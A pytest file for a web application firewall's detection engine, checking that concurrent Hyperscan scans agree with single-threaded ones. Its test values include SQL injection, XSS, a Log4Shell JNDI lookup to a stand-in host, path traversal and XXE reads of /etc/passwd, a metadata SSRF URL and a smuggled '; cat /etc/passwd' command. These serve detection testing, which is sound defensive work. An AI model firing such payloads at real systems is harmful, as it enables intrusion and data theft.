"""The prefilter scanned from several threads at once (the waf inspects large bodies on a worker thread while the
event loop inspects small ones): each thread scans with its own Hyperscan scratch, and the answers are those of
one thread scanning alone."""

from __future__ import annotations

import threading

import pytest

from bastion.detection import Context, Engine
from bastion.detection.prefilter import Prefilter

VALUES = [
    "' or '1'='1", "<svg onload=alert(1)>", "${jndi:ldap://x.example/a}", "../../../../etc/passwd",
    "http://169.254.169.254/latest/meta-data/", "; cat /etc/passwd", "{{7*7}}", "O'Brien", "select a plan",
    "hello world", "lorem ipsum dolor sit amet " * 400, "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
]


def _scan_everywhere(prefilter: Prefilter, threads: int, rounds: int) -> list[list[list[set[str]]]]:
    results: list[list[list[set[str]]]] = [[] for _ in range(threads)]
    errors: list[BaseException] = []
    start = threading.Barrier(threads)

    def work(slot: int) -> None:
        start.wait()
        try:
            for _ in range(rounds):
                results[slot].append([prefilter.scan(v) for v in VALUES] + prefilter.scan_many(VALUES))
        except BaseException as exc:  # re-raised on the test's thread
            errors.append(exc)

    workers = [threading.Thread(target=work, args=(i,)) for i in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    if errors:
        raise errors[0]
    return results


def test_concurrent_scans_from_many_threads_agree_with_one_thread(engine: Engine) -> None:
    prefilter = engine.prefilter
    if prefilter.backend != "hyperscan":
        pytest.skip("hyperscan not available: the re backend holds no scratch")
    alone = [prefilter.scan(v) for v in VALUES] + prefilter.scan_many(VALUES)
    assert any(alone) and not all(alone)  # the values both hit and miss: the comparison means something
    for per_thread in _scan_everywhere(prefilter, threads=4, rounds=200):
        assert all(answer == alone for answer in per_thread)


def test_the_engine_gives_the_same_verdicts_on_another_thread(engine: Engine) -> None:
    ctx = Context("body", "note")
    here = [d.rule.id if (d := engine.inspect(v, ctx)) else None for v in VALUES]
    there: list[str | None] = []
    t = threading.Thread(target=lambda: there.extend(d.rule.id if (d := engine.inspect(v, ctx)) else None
                                                     for v in VALUES))
    t.start()
    t.join()
    assert there == here
    assert any(here) and not all(here)
